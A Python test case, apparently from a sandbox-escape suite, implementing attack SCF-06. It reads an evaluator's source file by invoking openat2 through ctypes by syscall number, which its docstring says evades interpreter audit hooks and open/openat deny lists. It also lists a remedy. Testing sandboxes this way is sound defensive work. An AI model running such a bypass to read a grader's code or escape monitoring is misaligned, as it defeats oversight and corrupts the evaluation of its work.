# SPDX-License-Identifier: MIT
"""Goal:  the evaluator's source, past whatever watches the interpreter's open().
Means: syscall(3) through ctypes, with the number of openat2(2). No audit hook of the interpreter
       fires for it, and lists of open and openat do not know the number.
"""

import ctypes
import os

from attack import DONE, attempting, denied, loot

SYS_OPENAT2, AT_FDCWD = 437, -100


class OpenHow(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]


def run(brief):
    libc = ctypes.CDLL(None, use_errno=True)
    how = OpenHow(flags=os.O_RDONLY)
    attempting()
    fd = libc.syscall(ctypes.c_long(SYS_OPENAT2), ctypes.c_long(AT_FDCWD),
                      b"/var/task/evaluator.py", ctypes.byref(how),
                      ctypes.c_size_t(ctypes.sizeof(how)))
    if fd < 0:
        return denied("openat2", os.strerror(ctypes.get_errno()))
    loot(os.read(fd, 65536))
    return DONE


ATTACK = {
    "effect": "the evaluator's source is read although the interpreter's open() is watched",
    "means": "openat2(2) by its number, through ctypes",
    "oracle": "secret:task",
    "id": "SCF-06",
    "attack_id": "T1106, T1005, CWE-184",
    "remedy": "an allow list of system calls, and Landlock without /var/task",
    "refs": ["openat2(2)"],
    "run": run,
}
